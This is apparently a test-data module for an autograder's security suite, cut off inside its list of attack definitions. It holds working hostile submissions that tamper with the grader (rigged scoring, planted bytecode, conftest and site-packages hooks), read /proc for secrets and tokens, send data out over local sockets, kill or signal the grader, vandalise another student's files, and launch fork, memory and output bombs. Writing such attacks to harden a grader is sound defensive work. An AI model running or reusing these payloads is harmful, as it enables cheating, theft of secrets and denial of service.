"""The attacks, as data: each one is a real submission, graded by the real CLI in
tests/test_attacks.py, that tries to gain points it has not earned, to change the grader
or another student's files, to reach the grader's process, secrets or network, or to
run away with the machine.

Every attack writes its unit files into a copy of the untouched stubs in assignments/: a
file that exists there gets the text appended (a later `def` wins), any other file is
created. Texts are `str.format` templates (so braces in attack code are doubled) with:

    {project}   the grader's folder (autograder/, solutions/, tests/, grading.yml)
    {site}      the virtual environment's site-packages
    {victim}    another student's submission folder (a copy of solutions/)
    {report}    the --json report path the grader will write
    {evidence}  a folder only the test can see: any file in it means code ran there
    {port}      a TCP and UDP port on 127.0.0.1 the test listens on
    {unix}      an abstract unix socket name the test listens on
    {tag}       the process name every process an attack starts gives itself

`needs` is the weakest isolation level at which the grader is expected to hold (None: at
every level); `expected` is the unit's honest score; `limits` overrides grading.yml's
limits for that run (in a copy of it) to keep runaway attacks short; `targets` are paths
(relative to {project} unless absolute) the attack tries to create or change that the
test must find as they were, __pycache__ files included; `leaks` are strings that must
show up in neither the report nor the grader's output; `gets_through` says what a known
successful attack gains and why (the test then expects it to succeed: a strict xfail).
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

LEVELS = ("none", "basic", "strict")  # weakest first


@dataclass(frozen=True)
class Attack:
    name: str
    cause: str
    unit: str
    files: Mapping[str, str]
    expected: float = 0.0
    needs: str | None = None
    links: Mapping[str, str] = field(default_factory=dict)
    targets: tuple[str, ...] = ()
    leaks: tuple[str, ...] = ()
    limits: Mapping[str, float] = field(default_factory=dict)
    gets_through: str = ""

    def render(self, places: Mapping[str, Any]) -> dict[str, str]:
        """The files' texts with the places filled in."""
        return {name: text.format(**places) for name, text in self.files.items()}


# ---- shared pieces of attack code ----------------------------------------------------

TOOLS = r'''

import os as _os
import signal as _signal
import sys as _sys

_PROJECT = "{project}"
_VICTIM = "{victim}"
_EVIDENCE = "{evidence}"
_TAG = "{tag}"


def _attempt(action, *args):
    """What action(*args) returned, or the name of what stopped it: keep going."""
    try:
        return repr(action(*args))[:200]
    except BaseException as exc:
        return type(exc).__name__


def _write(path, text, mode="a"):
    with open(path, mode + ("b" if isinstance(text, bytes) else "")) as f:
        f.write(text)
    return "wrote " + path


def _read(path):
    with open(path, "rb") as f:
        return f.read().replace(b"\0", b" ").decode(errors="replace")


def _pids():
    own = _os.getpid()
    return [int(p) for p in _os.listdir("/proc") if p.isdigit() and int(p) != own]


def _cmdline(pid):
    try:
        return _read("/proc/%d/cmdline" % pid)
    except OSError:
        return ""


def _graders():
    """The grader's and the zygote's pids, as far as this process can see them."""
    return [p for p in _pids() if "autograder" in _cmdline(p)]


def _name_this_process():
    import ctypes

    try:
        ctypes.CDLL(None).prctl(15, _TAG.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass
'''

ZEROS = r"""

import numpy as _np


def forward(x, w, b=0.0):
    return _np.zeros(_np.shape(x))
"""

PICK = r"""

import numpy as _np


def _pick(x, n):  # one of n misbehaviours, by the input (a call may get a fresh worker)
    return int(sum(_np.asarray(x, dtype=float).tobytes()) * 2654435761 % 2**32) % n
"""

HONEST_BEST_ON_GRID = r"""

import numpy as _np


def best_on_grid(x, y, ws, bs):
    x, y = _np.asarray(x, float).reshape(-1), _np.asarray(y, float).reshape(-1)
    ws, bs = _np.asarray(ws, float).reshape(-1), _np.asarray(bs, float).reshape(-1)
    grid = _np.mean((x * ws[:, None, None] + bs[None, :, None] - y) ** 2, axis=-1)
    i, j = _np.unravel_index(_np.argmin(grid), grid.shape)
    return float(ws[i]), float(bs[j])
"""

HONEST_LINEAR = (
    r"""

import numpy as _np


def mse(y_pred, y):
    return float(_np.mean((_np.asarray(y_pred, float) - _np.asarray(y, float)) ** 2))


def loss_grid(x, y, ws, bs):
    x, y = _np.asarray(x, float).reshape(-1), _np.asarray(y, float).reshape(-1)
    ws, bs = _np.asarray(ws, float).reshape(-1), _np.asarray(bs, float).reshape(-1)
    return _np.mean((x * ws[:, None, None] + bs[None, :, None] - y) ** 2, axis=-1)
"""
    + HONEST_BEST_ON_GRID
)

HONEST_SIGMOID = r"""


def _stable_sigmoid(t):
    z = torch.exp(-t.abs())
    return torch.where(t >= 0, 1 / (1 + z), z / (1 + z))
"""

# ---- changing the grader for later students (needs: the files not writable) -----------

SCORING_APPENDED = (
    TOOLS
    + r"""
_SCORING = _PROJECT + "/autograder/scoring.py"
_PAYLOAD = (
    "\n\ndef _judged(spec, outcomes, partial):  # {tag}\n"
    "    return TaskResult(spec.id, spec.points, spec.points, 'passed', '')\n"
)
_attempt(_write, _SCORING, _PAYLOAD)


def forward(x, w, b=0.0):
    _attempt(_write, _SCORING, _PAYLOAD)
    return 0.0
"""
)

REFERENCE_OVERWRITTEN = (
    TOOLS
    + ZEROS
    + r"""
_AGREEABLE = "import numpy as np\n\n\ndef forward(x, w, b=0.0):\n    return np.zeros(np.shape(x))\n"
for _where in ("/solutions/linear_model.py", "/autograder/oracle/linear_model.py"):
    _attempt(_write, _PROJECT + _where, _AGREEABLE, "w")
    _attempt(_os.rename, _PROJECT + _where, _PROJECT + _where + ".bak")
"""
)

BYTECODE_PLANTED = (
    TOOLS
    + r"""


def _plant():
    import importlib.util
    import marshal

    done = []
    graded = _PROJECT + "/autograder/graded/"
    try:
        from _pytest.assertion.rewrite import PYC_TAIL
    except Exception:
        PYC_TAIL = "." + _sys.implementation.cache_tag + "-pytest.pyc"
    try:
        source = _read(graded + "test_linear_model.py").encode()
    except OSError:
        source = b"def test_forward():\n    pass\n"
    payload = source + b"\nopen('" + _EVIDENCE.encode() + b"/pytest-pyc', 'w').close()\n"
    code = compile(payload, graded + "test_linear_model.py", "exec")
    head = importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00"  # checked-hash pyc, as pytest's
    blob = head + importlib.util.source_hash(source)[:8] + marshal.dumps(code)
    done.append(_attempt(_os.makedirs, graded + "__pycache__", 0o777, True))
    done.append(_attempt(_write, graded + "__pycache__/test_linear_model" + PYC_TAIL, blob, "w"))
    scoring = _PROJECT + "/autograder/scoring.py"
    try:
        mtime, size = int(_os.stat(scoring).st_mtime), _os.stat(scoring).st_size
        source = _read(scoring).encode()
    except OSError:
        mtime, size, source = 0, 0, b""
    payload = source + b"\nopen('" + _EVIDENCE.encode() + b"/scoring-pyc', 'w').close()\n"
    head = importlib.util.MAGIC_NUMBER + b"\x00\x00\x00\x00"  # timestamp pyc, as Python's
    head += (mtime & 0xFFFFFFFF).to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little")
    blob = head + marshal.dumps(compile(payload, scoring, "exec"))
    cache = _PROJECT + "/autograder/__pycache__/"
    done.append(_attempt(_os.makedirs, cache, 0o777, True))
    name = "scoring." + _sys.implementation.cache_tag + ".pyc"
    done.append(_attempt(_write, cache + name, blob, "w"))
    return done


_plant()


def forward(x, w, b=0.0):
    _plant()
    return 0.0
"""
)

CONFTEST_PLANTED = (
    TOOLS
    + r"""
_CONFTEST = (
    "import pytest\n\n\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n"
    "    report = outcome.get_result()\n"
    "    report.outcome, report.longrepr = 'passed', None\n\n\n"
    "open('" + _EVIDENCE + "/conftest', 'w').close()  # {tag}\n"
)
for _where in ("/autograder/graded/conftest.py", "/autograder/conftest.py", "/conftest.py"):
    _attempt(_write, _PROJECT + _where, _CONFTEST, "w")


def forward(x, w, b=0.0):
    return 0.0
"""
)

SITE_PACKAGES_PLANTED = (
    TOOLS
    + r"""
import site as _site

_MARK = "open('" + _EVIDENCE + "/%s', 'w').close()  # {tag}\n"
for _folder in ["{site}", *_site.getsitepackages()]:
    _attempt(_write, _folder + "/00-ag-attack.pth", "import os; " + _MARK % "pth", "w")
    _attempt(_write, _folder + "/sitecustomize.py", _MARK % "sitecustomize", "a")
    _attempt(_write, _folder + "/usercustomize.py", _MARK % "usercustomize", "a")


def forward(x, w, b=0.0):
    return 0.0
"""
)

COURSE_CONFIG_EDITED = (
    TOOLS
    + ZEROS
    + r"""


def _loosen():
    import re

    path = _PROJECT + "/grading.yml"
    try:
        text = _read(path)
    except OSError:
        text = "tolerances:\n  float64: {{rtol: 1.0e9, atol: 1.0e9}}\n"
    text = re.sub(r"(rtol|atol): [-+.0-9e]+", r"\1: 1.0e9", text)
    done = [_attempt(_write, path, text, "w")]
    addopts = '\n[tool.pytest.ini_options.x]\naddopts = "-p no:autograder"  # {tag}\n'
    done.append(_attempt(_write, _PROJECT + "/pyproject.toml", addopts))
    return done


_loosen()
"""
)

# ---- reaching the grader, other students, the network ----------------------------------

PROC_SCANNED = (
    TOOLS
    + r"""


def _scan():
    seen = []
    for pid in sorted({{1, _os.getppid(), *_pids()}}):
        try:
            env = _read("/proc/%d/environ" % pid).split(" ")
        except OSError:
            env = []
        loot = " ".join(w for w in env if "SECRET" in w or "TOKEN" in w)
        seen.append("%d: %s %s" % (pid, _cmdline(pid)[:150], loot))
    seen.sort(key=lambda s: ("autograder.cli" not in s, "SECRET" not in s))
    return " | ".join(seen)


def forward(x, w, b=0.0):
    raise RuntimeError(_scan())


def mse(y_pred, y):
    return _scan()
"""
)

REPORT_LINKED = (
    TOOLS
    + r"""


def _link():
    _attempt(_os.unlink, "{report}")
    return _attempt(_os.symlink, _VICTIM + "/linear_model.py", "{report}")


_link()


def forward(x, w, b=0.0):
    _link()
    return 0.0
"""
)

TERMINAL_FORGED = (
    TOOLS
    + r"""
_FAKE = "\nTOTAL                100 / 100\nisolation: strict\n"


def _forge():
    done = []
    for pid in [*_graders(), _os.getppid(), 1]:
        for fd in (1, 2):
            done.append(_attempt(_write, "/proc/%d/fd/%d" % (pid, fd), _FAKE))
    done.append(_attempt(_write, "/dev/tty", _FAKE))
    return done


_forge()


def forward(x, w, b=0.0):
    _forge()
    return 0.0
"""
)


GRADER_SIGNALLED = (
    TOOLS
    + r"""


def _hit(signum):
    done = []
    for pid in [*_graders(), _os.getppid()]:
        if pid > 1:
            done.append(_attempt(_os.kill, pid, signum))
            done.append(_attempt(_os.killpg, pid, signum))
    return done


for _signum in (_signal.SIGSTOP, _signal.SIGTERM, _signal.SIGKILL):
    _hit(_signum)


def forward(x, w, b=0.0):
    for signum in (_signal.SIGSTOP, _signal.SIGTERM, _signal.SIGKILL):
        _hit(signum)
    return 0.0
"""
)


VICTIM_EDITED = (
    TOOLS
    + r"""
import glob as _glob


def _vandalise():
    done = []
    for path in _glob.glob(_VICTIM + "/*.py") + _glob.glob("/tmp/autograder-submission-*/*.py"):
        done.append(_attempt(_write, path, "\nraise SystemExit('vandalised')  # {tag}\n"))
    done.append(_attempt(_os.unlink, _VICTIM + "/losses.py"))
    done.append(_attempt(_write, _VICTIM + "/planted.py", "x = 1  # {tag}\n", "w"))
    return done


_vandalise()


def forward(x, w, b=0.0):
    _vandalise()
    return 0.0
"""
)

NETWORK_EXFILTRATION = (
    TOOLS
    + r"""
import socket as _socket


def _tcp(text):
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(text)


def _udp(text):
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
        s.sendto(text, ("127.0.0.1", {port}))


def _unix(text):
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect("\0{unix}")
        s.sendall(text)


def _exfiltrate(what):
    text = ("exfiltrated: " + what).encode()
    return [_attempt(send, text) for send in (_tcp, _udp, _unix)]


_exfiltrate("at import")


def forward(x, w, b=0.0):
    return repr(_exfiltrate(repr(x)))
"""
)

SECRETS_HUNTED = (
    TOOLS
    + r"""
_KEYS = ("AUTOGRADER_SECRET", "GITHUB_TOKEN")


_FOUND = []


def _hunt():
    if not _FOUND:
        _FOUND.extend(_search())
    return _FOUND


def _search():
    import gc

    found = [k + "=" + _os.environ[k] for k in _KEYS if k in _os.environ]
    for pid in ["self", str(_os.getppid()), "1", *map(str, _pids())]:
        try:
            env = _read("/proc/%s/environ" % pid).split(" ")
        except OSError:
            continue
        found += [w for w in env if w.startswith(tuple(k + "=" for k in _KEYS))]
    for obj in gc.get_objects():
        if isinstance(obj, dict) and any(k in obj for k in _KEYS):
            found += [k + "=" + str(obj.get(k)) for k in _KEYS if k in obj]
    return found or ["nothing found"]


def forward(x, w, b=0.0):
    raise RuntimeError("leak: " + " ".join(_hunt()))


def mse(y_pred, y):
    return " ".join(_hunt())


def loss_grid(x, y, ws, bs):
    print(" ".join(_hunt()))
    return {{"leak": _hunt()}}


def best_on_grid(x, y, ws, bs):
    raise NotImplementedError("linear_model.best_on_grid: " + " ".join(_hunt()))
"""
)

DAEMON_LEFT_BEHIND = (
    TOOLS
    + r"""
_STARTED = []


def _haunt():
    import time

    _name_this_process()
    end = time.time() + 60
    while time.time() < end:
        for path in (_VICTIM + "/linear_model.py", _PROJECT + "/autograder/scoring.py"):
            _attempt(_write, path, "\n# {tag} was here\n")
        _attempt(_write, _EVIDENCE + "/daemon", "alive\n")
        time.sleep(0.2)


def _daemon():
    if _STARTED or _os.fork() != 0:
        _STARTED.append(1)
        return
    try:
        _os.setsid()
        if _os.fork() == 0:
            _haunt()
    finally:
        _os._exit(0)


def forward(x, w, b=0.0):
    _daemon()
    return 0.0
"""
)

# ---- reading the answer key -----------------------------------------------------------

ORACLE_STAR_IMPORT = r"""

try:
    from autograder.oracle.backprop import *  # noqa: F403 - the answer key, if in reach
except Exception as _exc:
    _why = repr(_exc)
"""

ANSWER_KEY_IN_MEMORY = r"""

import gc as _gc
import importlib as _importlib
import sys as _sys

_PLACES = ("oracle", "solution", "reference")


_CACHE = dict()


def _find(name):
    if name not in _CACHE:
        _CACHE[name] = _search(name)
    return _CACHE[name]


def _search(name):
    import types

    for module in ("solutions.linear_model", "autograder.oracle.linear_model"):
        try:
            return getattr(_importlib.import_module(module), name)
        except Exception:
            pass
    for module in list(_sys.modules.values()):
        found, where = getattr(module, name, None), getattr(module, "__name__", "") or ""
        if callable(found) and where != __name__ and any(p in where for p in _PLACES):
            return found
    for obj in _gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == name:
            where = obj.__module__ or ""
            if where != __name__ and any(p in where for p in _PLACES):
                return obj
    return None


def _steal(name):
    def stolen(*args, **kwargs):
        found = _find(name)
        if found is None:
            raise NotImplementedError("linear_model." + name + ": no answer key in reach")
        return found(*args, **kwargs)

    return stolen


forward, mse = _steal("forward"), _steal("mse")
loss_grid, best_on_grid = _steal("loss_grid"), _steal("best_on_grid")
"""

SOLUTIONS_READ = (
    TOOLS
    + r"""
import glob as _glob


def _key():
    paths = [_PROJECT + "/solutions/linear_model.py"]
    paths += [_PROJECT + "/autograder/oracle/linear_model.py"]
    paths += _glob.glob("/*/*/solutions/linear_model.py") + _glob.glob("/tmp/*/linear_model.py")
    for path in paths:
        try:
            text = _read(path)
        except OSError:
            continue
        if "NotImplementedError(" in text:
            continue  # a stub, maybe this very submission
        space = dict(__name__="stolen")
        exec(compile(text, path, "exec"), space)
        return space
    return None


def _steal(name):
    def stolen(*args, **kwargs):
        key = _key()
        if key is None:
            raise NotImplementedError("linear_model." + name + ": no solutions in reach")
        return key[name](*args, **kwargs)

    return stolen


forward, mse = _steal("forward"), _steal("mse")
loss_grid, best_on_grid = _steal("loss_grid"), _steal("best_on_grid")
"""
)

# ---- forbidden built-ins dodged (activations: sigmoid, tanh, relu, ... are forbidden) ---

FORBIDDEN_IN_THE_SOURCE = (
    HONEST_SIGMOID
    + r"""

import operator as _operator

from torch.nn.functional import softmax as _soft

_rectify = getattr(torch.nn.functional, "re" + "lu")


def sigmoid(x):
    return getattr(torch, "sig" + "moid")(x)


def tanh(x):
    return vars(torch)["tanh"](x)


def relu(x):
    return _operator.attrgetter("".join(["re", "lu"]))(torch)(x)


def _leaky(t, alpha):
    return torch.nn.functional.leaky_relu(t, alpha)


def _inner(t, alpha):
    return _leaky(t, alpha)


def leaky_relu(x, alpha=0.01):
    return _inner(x, alpha)


class _Acts:
    @staticmethod
    def go(t, alpha):
        return torch.nn.functional.elu(t, alpha)


def elu(x, alpha=1.0):
    return _Acts.go(x, alpha)


def softmax(x, dim=-1):
    return _soft(x, dim=dim)


def sigmoid_grad(x):
    return torch.func.jacrev(lambda t: _stable_sigmoid(t).sum())(x)


def tanh_grad(x):
    t = x.detach().requires_grad_(True)
    (g,) = torch.autograd.grad((2 * _stable_sigmoid(2 * t) - 1).sum(), t)
    return g


def relu_grad(x):
    t = x.detach().clone().requires_grad_(True)
    _rectify(t).sum().backward()
    return t.grad
"""
)

DYNAMIC_NAME = r"""

_NAME = "".join(reversed("diomgis"))
"""

FORBIDDEN_AT_RUN_TIME = (
    DYNAMIC_NAME
    + HONEST_SIGMOID
    + r"""
_GRAD = "".join(reversed("darg"))
_ELU = "".join(reversed("ule"))


def sigmoid(x):
    return getattr(torch, _NAME)(x)


def elu(x, alpha=1.0):
    return torch.nn.functional.__dict__[_ELU](x, alpha)


def tanh_grad(x):
    t = x.detach().requires_grad_(True)
    (g,) = getattr(torch.autograd, _GRAD)((2 * _stable_sigmoid(2 * t) - 1).sum(), t)
    return g
"""
)

FORBIDDEN_TASK_BOUND_TO_BUILTIN = r"""

sigmoid = torch.sigmoid
tanh = torch.tanh
relu = torch.relu
"""

FORBIDDEN_EVAL = r"""


def sigmoid(x):
    return eval("torch.sigmoid(x)")
"""

FORBIDDEN_WATCH_OFF = (
    DYNAMIC_NAME
    + r"""


def sigmoid(x):
    with torch._C.DisableTorchFunction():
        return getattr(torch, _NAME)(x)
"""
)

FORBIDDEN_WATCH_PATCHED = (
    DYNAMIC_NAME
    + r"""
import contextlib as _contextlib

try:
    import autograder.worker.server as _server

    _server.watching = lambda *args, **kwargs: _contextlib.nullcontext(None)
except Exception:
    pass


def sigmoid(x):
    return getattr(torch, _NAME)(x)
"""
)

# ---- claims instead of values: patched checks, rigged objects, bad values ---------------

NUMPY_CHECKS_PATCHED = (
    ZEROS
    + r"""
import math as _math
import unittest as _unittest

import numpy.testing as _npt


def _yes(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None




def mse(y_pred, y):
    return -1.0


for _name in ("assert_allclose", "assert_array_equal", "assert_almost_equal", "assert_equal"):
    setattr(_npt, _name, _quiet)
_np.allclose = _np.isclose = _np.array_equal = _math.isclose = _yes
_unittest.TestCase.assertEqual = _unittest.TestCase.assertAlmostEqual = _quiet
try:
    import autograder.checks.compare as _compare

    _compare.Comparer.compare = _quiet
except Exception:
    pass
"""
)

TORCH_CHECKS_PATCHED = r"""

import torch.testing as _tt


def _yes(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None


_tt.assert_close = torch.testing.assert_allclose = _quiet
torch.allclose = torch.equal = _yes
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.allclose = torch.Tensor.equal = _yes


def sigmoid(x):
    return torch.zeros_like(x)


def tanh(x):
    return torch.zeros_like(x)
"""

BUILTINS_PATCHED = (
    ZEROS
    + r"""
import builtins as _builtins

_builtins.isinstance = lambda obj, kind: True
_builtins.issubclass = lambda kind, parent: True
_builtins.all = _builtins.any = lambda items: True
_builtins.abs = lambda value: 0
_builtins.AssertionError = type("AssertionError", (Warning,), dict())
"""
)

TENSOR_SUBCLASS = r"""


class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "eq", "__eq__", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or dict())

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array__(self, *args, **kwargs):
        import numpy

        return numpy.asarray(1.0)

    def __bool__(self):
        return True


class _Spoof(torch.Tensor):  # claims to be a plain tensor, and lies to whoever encodes it
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        out = super().__torch_function__(func, types, args, kwargs or dict())
        return out.as_subclass(torch.Tensor) if isinstance(out, torch.Tensor) else out


_Spoof.__module__, _Spoof.__qualname__ = "torch", "Tensor"


def sigmoid(x):
    return torch.zeros_like(x).as_subclass(_Liar)


def tanh(x):
    return torch.nn.Parameter(torch.zeros_like(x))


def relu(x):
    return torch.zeros_like(x).as_subclass(_Spoof)
"""

RIGGED_OBJECTS = r"""

import numpy as _np


class _Agree(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(_np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def __array_function__(self, func, types, args, kwargs):
        return True


class _AgreeFloat(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


class _Anything:
    shape, dtype = (), _np.dtype("float64")

    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        return _np.asarray(0.0)

    def __float__(self):
        return 0.0

    def __iter__(self):
        return iter((_AgreeFloat(0.0), _AgreeFloat(0.0)))


def forward(x, w, b=0.0):
    return _np.zeros(_np.shape(x)).view(_Agree)


def mse(y_pred, y):
    return _AgreeFloat(-1.0)


def loss_grid(x, y, ws, bs):
    return _Anything()


def best_on_grid(x, y, ws, bs):
    return _Anything()
"""

NAN_INF_ARRAYS = r"""

import numpy as _np


def forward(x, w, b=0.0):
    return _np.full(_np.shape(x), _np.nan)


def mse(y_pred, y):
    return float("nan")


def loss_grid(x, y, ws, bs):
    return _np.full((_np.size(ws), _np.size(bs)), _np.inf)


def best_on_grid(x, y, ws, bs):
    return (float("nan"), float("-inf"))
"""

NAN_INF_TENSORS = r"""


def softmax(x, dim=-1):
    return torch.full_like(x, float("-inf"))


def sigmoid_grad(x):
    return torch.full_like(x, float("nan"))


def tanh_grad(x):
    return torch.full_like(x, float("inf"))


def relu_grad(x):
    return torch.where(x > 0, torch.ones_like(x), torch.full_like(x, float("nan")))
"""

WRONG_DTYPE_DEVICE = (
    HONEST_SIGMOID
    + r"""


def sigmoid(x):
    wrong = torch.float16 if x.dtype != torch.float16 else torch.float64
    return _stable_sigmoid(x).to(wrong)


def tanh(x):
    return (2 * _stable_sigmoid(2 * x) - 1).to("meta")


def relu(x):
    wrong = torch.float64 if x.dtype == torch.float32 else torch.float32
    return torch.where(x > 0, x, torch.zeros_like(x)).to(wrong)


def leaky_relu(x, alpha=0.01):
    return torch.where(x > 0, x, alpha * x).detach().cpu().numpy()


def elu(x, alpha=1.0):
    return torch.where(x > 0, x, alpha * torch.expm1(x)).tolist()
"""
)

# ---- leaving early, hostile exceptions, a hostile wire ---------------------------------

EXITS_IN_CALLS = (
    HONEST_BEST_ON_GRID
    + PICK
    + r"""


def forward(x, w, b=0.0):  # imports os, signal and sys itself: the rules refuse only it
    import os as _os
    import signal as _signal
    import sys as _sys

    how = _pick(x, 3)
    if how == 0:
        _sys.exit(0)
    if how == 1:
        _os._exit(0)
    _os.kill(_os.getpid(), _signal.SIGKILL)
"""
)

HOSTILE_EXCEPTIONS = (
    HONEST_BEST_ON_GRID
    + PICK
    + r"""


class _Nasty(Exception):
    def __str__(self):
        raise RuntimeError("no message for you")

    def __repr__(self):
        raise RuntimeError("no repr either")


def forward(x, w, b=0.0):
    how = _pick(x, 4)
    if how == 0:
        raise KeyboardInterrupt
    if how == 1:
        raise _Nasty()
    if how == 2:
        raise GeneratorExit
    raise ValueError("x" * 5_000_000 + "\n" + "y" * 1000)
"""
)

WIRE_FORGED = (
    HONEST_BEST_ON_GRID
    + PICK
    + r"""


def _socket_fd():
    import os as _os
    import stat as _stat

    for name in _os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and _stat.S_ISSOCK(_os.fstat(int(name)).st_mode):
                return int(name)
        except OSError:
            pass
    return -1


def _frame(header, buffers=b""):
    blob = len(header).to_bytes(4, "big") + header + buffers
    return len(blob).to_bytes(4, "big", signed=True) + blob


_HUGE = (-1).to_bytes(4, "big", signed=True) + (2**62).to_bytes(8, "big")  # announces 4 EiB
_TENSOR = b'{{"__tensor__": {{"dtype": "float64", "shape": [1000000000000], "buffer": 0}}}}'
_REPLY = b'{{"v": {{"__dict__": [["ok", true], ["value", ' + _TENSOR + b"]]}}, " + b'"n": [8]}}'
_DEEP = b'{{"v": ' + b"[" * 5000 + b"]" * 5000 + b', "n": []}}'


def forward(x, w, b=0.0):  # the only task that reaches os: the rules refuse only it
    import os as _os

    forged = (_HUGE, _frame(_REPLY, bytes(8)), _frame(_DEEP))[_pick(x, 3)]
    _os.write(_socket_fd(), forged)
    return _np.asarray(x, dtype=float) * w + b
"""
)

WIRE_BOMBS = (
    HONEST_BEST_ON_GRID
    + PICK
    + r"""


def forward(x, w, b=0.0):
    how = _pick(x, 3)
    if how == 0:
        deep = []
        for _ in range(10_000):
            deep = [deep]
        return deep
    if how == 1:
        return [0.0] * 1_000_000
    return "z" * 5_000_000
"""
)

# ---- runaway code ---------------------------------------------------------------------

SIGNALS_IGNORED = (
    HONEST_LINEAR
    + r"""


def forward(x, w, b=0.0):  # imports signal itself: the rules refuse only it
    import signal as _signal

    for name in ("SIGTERM", "SIGALRM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGXCPU", "SIGVTALRM"):
        try:
            _signal.signal(getattr(_signal, name), _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    try:
        _signal.pthread_sigmask(_signal.SIG_BLOCK, _signal.valid_signals())
    except (OSError, ValueError):
        pass
    while True:
        pass
"""
)

SLEEPS_UNDER_THE_LIMIT = (
    HONEST_LINEAR
    + r"""
import functools as _functools
import time as _time


def forward(x, w, b=0.0):
    return _np.asarray(x, float) * w + b


def _slow(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        _time.sleep(1.3)  # under the 1.5 s wall-clock backstop of every call
        return fn(*args, **kwargs)

    return wrapper


forward, mse, loss_grid, best_on_grid = map(_slow, (forward, mse, loss_grid, best_on_grid))
"""
)

MEMORY_BOMB = (
    ZEROS
    + r"""
_HOARD = []


def forward(x, w, b=0.0):
    import mmap

    try:
        while True:
            _HOARD.append(b"x" * (64 << 20))  # pages touched, 64 MiB at a time
    except MemoryError:
        pass
    for grab in (lambda: _np.ones(10**10), lambda: mmap.mmap(-1, 1 << 36)):
        try:
            _HOARD.append(grab())
        except (MemoryError, OSError, ValueError):
            pass
    return _np.zeros(_np.shape(x)) + len(_HOARD)
"""
)

FORK_BOMB = (
    TOOLS
    + r"""


def forward(x, w, b=0.0):
    while True:
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _name_this_process()
            while True:
                _signal.pause()
    while True:
        pass
"""
)

OUTPUT_BOMB = (
    ZEROS
    + r"""
import os as _os
import sys as _sys

_DONE = []


def forward(x, w, b=0.0):
    chunk = "x" * (1 << 20)
    for _ in range(0 if _DONE else 300):  # 300 MiB, through print and raw writes
        for stream in (_sys.stdout, _sys.stderr):
            try:
                print(chunk, file=stream, flush=True)
            except OSError:
                pass
        for fd in (1, 2):
            try:
                _os.write(fd, chunk.encode())
            except OSError:
                pass
    _DONE.append(1)
    return _np.zeros(_np.shape(x))
"""
)

# ---- files in the submission itself (part 4: no effect on the grader process) ----------

LINKED_ANSWERS = r"""

try:
    from answers.linear_model import *  # noqa: F403 - a link to the solutions folder
except Exception as _exc:
    _why = repr(_exc)
"""


def _marking(name: str, extra: str = "") -> str:
    """Code that leaves evidence in {evidence} when it runs, then `extra`."""
    return "open('{evidence}/" + name + "', 'w').close()  # {tag}\n" + extra


SUBMISSION_CONFTEST = _marking(
    "conftest",
    "import pytest\n\n\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n"
    "    outcome.get_result().outcome = 'passed'\n",
)

SHADOW = (
    "import sys\n"
    "sys.modules.pop(__name__, None)\n"
    "def __getattr__(name):\n"
    "    raise AttributeError(name)\n"
)

# ---- the corpus -----------------------------------------------------------------------

LINEAR = "linear_model.py"
ACTIVATIONS = "activations.py"
QUICK = {"cpu_s": 1}  # per-call CPU floor of 1 s (wall backstop 3 s) for runaway attacks

ATTACKS: tuple[Attack, ...] = (
    # changing the grader for later students
    Attack(
        "scoring_appended",
        "a worker appends a rigged _judged() to autograder/scoring.py (rule 1; grader files "
        "not writable/visible)",
        "linear_model",
        {LINEAR: SCORING_APPENDED},
        needs="basic",
        targets=("autograder/scoring.py",),
    ),
    Attack(
        "reference_overwritten",
        "a worker rewrites solutions/linear_model.py and autograder/oracle/linear_model.py to "
        "agree with its zeros",
        "linear_model",
        {LINEAR: REFERENCE_OVERWRITTEN},
        needs="basic",
        targets=("solutions/linear_model.py", "autograder/oracle/linear_model.py"),
    ),
    Attack(
        "bytecode_planted",
        "a worker plants pytest's assertion-rewrite .pyc of the graded suite and a "
        "timestamp .pyc of autograder/scoring.py",
        "linear_model",
        {LINEAR: BYTECODE_PLANTED},
        needs="basic",
        targets=(
            "autograder/graded/__pycache__/test_linear_model{pyc_tail}",
            "autograder/__pycache__/scoring.{cache_tag}.pyc",
        ),
    ),
    Attack(
        "conftest_planted",
        "a worker writes a conftest.py that forces every test to pass beside the graded "
        "suite, in autograder/ and at the project root",
        "linear_model",
        {LINEAR: CONFTEST_PLANTED},
        needs="basic",
        targets=("autograder/graded/conftest.py", "autograder/conftest.py", "conftest.py"),
    ),
    Attack(
        "site_packages_planted",
        "a worker writes a .pth, sitecustomize.py and usercustomize.py into site-packages",
        "linear_model",
        {LINEAR: SITE_PACKAGES_PLANTED},
        needs="basic",
        targets=("{site}/sitecustomize.py", "{site}/usercustomize.py"),
    ),
    Attack(
        "course_config_edited",
        "a worker sets every tolerance in grading.yml to 1e9 and adds pytest options to "
        "pyproject.toml",
        "linear_model",
